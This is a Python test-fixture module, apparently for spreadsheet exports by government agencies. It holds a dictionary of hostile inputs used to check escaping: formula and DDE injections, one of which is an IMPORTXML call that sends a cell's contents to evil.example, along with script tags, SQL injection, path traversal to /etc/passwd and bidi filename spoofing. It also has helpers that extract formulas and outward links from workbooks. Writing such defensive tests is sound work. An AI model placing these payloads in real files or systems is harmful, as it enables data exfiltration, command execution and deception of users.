"""Text that an OPD, or somebody with its account, may put wherever text can stand."""

from __future__ import annotations

from pathlib import Path
from zipfile import ZipFile

import openpyxl

LONG_NAME = "Dinas " + "Panjang " * 24
TEXTS: dict[str, str] = {
    "link": '=HYPERLINK("http://evil.example","klik")',
    "import": '=IMPORTXML("http://evil.example/"&A1,"//x")',
    "command": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|'x'!A0",
    "at": "@SUM(1+1)*cmd|'x'!A0",
    "minus": "-2+3+cmd|'x'!A0",
    "tab": "\t=1+1",
    "line ends": "satu\r\ndua\rtiga\n=1+1",
    "control": "a\x00\x07\x08\x0b\x0c\x1b[31mmerah\x1b]0;judul\x07\x7f\x9b2J",
    "escape look-alike": "_x0041_ _x000D_ _x_",
    "emoji": "👩🏽‍⚕️ dan 🇮🇩",
    "right to left": "Laporan \u202excod.exe\u202c \u2066x\u2069 \u200fkanan",
    "surrogate": "setengah \ud83d saja",
    "non-character": "\ufffe dan \uffff",
    "script": "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "markup": "[bold red]tebal[/bold red] [link=http://evil.example]x[/link]",
    "braces": "{braces} {0} {agency.__class__} {{}}",
    "percent": "%s %d %(x)s 100%",
    "sql": "'; DROP TABLE pulls; --",
    "path": "../../../../etc/passwd",
    "windows path": "..\\..\\CON",
    "ampersand": "A & B <c> \"d\" 'e'",
    "xml": "]]></t><f>1+1</f><!--",
    "header code": '&G&P&"Arial"&X',
}
"""By what they try."""

DANGEROUS_ON_SCREEN = [
    *map(chr, (*range(9), *range(11, 32), 0x7F, *range(0x80, 0xA0))),
    *map(chr, (*range(0x202A, 0x202F), *range(0x2066, 0x206A))),
]
"""What could command a terminal, or turn around what a person reads."""


def formulas(path: Path) -> list[str]:
    """Every formula of a workbook, as sheet, cell and text."""
    book = openpyxl.load_workbook(path)
    return [
        f"{sheet.title}!{cell.coordinate} {cell.value}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def outward_links(path: Path, home: str) -> list[str]:
    """Targets outside the file and outside `home` that any part of a workbook names."""
    found: list[str] = []
    with ZipFile(path) as archive:
        for name in archive.namelist():
            if name.endswith(".rels"):
                text = archive.read(name).decode()
                found += [
                    part.split('"')[0]
                    for part in text.split('Target="')[1:]
                    if "://" in part.split('"')[0] and not part.startswith(home)
                ]
    return found
